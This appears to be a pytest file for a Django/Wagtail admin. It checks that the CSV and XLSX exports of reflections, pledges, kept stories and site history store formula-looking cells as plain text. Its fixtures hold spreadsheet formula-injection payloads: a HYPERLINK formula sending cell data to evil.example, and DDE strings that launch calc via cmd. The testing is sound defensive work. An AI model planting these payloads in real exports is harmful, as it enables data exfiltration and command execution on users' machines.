"""Every spreadsheet export of the admin (the lists of what viewers write, and Wagtail's own
reports, which name the rows curators changed) writes a cell a spreadsheet would run as a
formula as text: in CSV with a leading ', in XLSX as a text cell."""

import csv
import io

import pytest
from openpyxl import load_workbook

from alongside.pledges import services as pledges
from alongside.reflections.models import Reflection
from alongside.reflections.services import post_reflection

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
TEXT = "+cmd|' /C calc'!A0"
STORY = "@SUM(1+1)*cmd|' /C calc'!A0"
NOTE = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def written(make_video, admin_client):
    video = make_video("Finish line")
    post_reflection(
        video=video, name=NAME, email="r@example.org", text=TEXT, idempotency_key="1", mode="open"
    )
    pledge = pledges.start_pledge(video=video, name=NAME, email="p@example.org", note=NOTE)
    pledges.confirm_pledge(pledge=pledge)
    pledges.mark_kept(pledge=pledge, story=STORY)
    # A curator edits the reflection: Wagtail's history names it (name and words).
    reflection = Reflection.objects.get()
    edit = f"/admin/snippets/reflections/reflection/edit/{reflection.pk}/"
    form = {"name": NAME, "text": TEXT + " (edited)", "status": reflection.status}
    assert admin_client.post(edit, form).status_code == 302


def csv_cells(client, path: str) -> list[str]:
    body = b"".join(client.get(f"{path}?export=csv").streaming_content).decode()
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def xlsx_cells(client, path: str) -> list:
    body = b"".join(client.get(f"{path}?export=xlsx").streaming_content)
    return [cell for row in load_workbook(io.BytesIO(body)).active.iter_rows() for cell in row]


EXPORTS = {
    "reflections": ("/admin/snippets/reflections/reflection/", [NAME, f"{TEXT} (edited)"]),
    "pledges": ("/admin/snippets/pledges/pledge/", [NAME, NOTE]),
    "kept stories": ("/admin/snippets/pledges/keptstory/", [NAME, STORY]),
    "site history": ("/admin/reports/site-history/", [f"{NAME}: {TEXT} (edited)"]),
}


@pytest.mark.parametrize("export", EXPORTS.values(), ids=EXPORTS.keys())
def test_a_cell_that_looks_like_a_formula_is_text_in_csv_and_xlsx(admin_client, written, export):
    path, values = export
    cells = csv_cells(admin_client, path)
    for value in values:
        assert f"'{value}" in cells and value not in cells, cells
    typed = {cell.value: cell.data_type for cell in xlsx_cells(admin_client, path)}
    for value in values:
        assert typed[value] == "s"  # a string, never "f" (a formula)
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
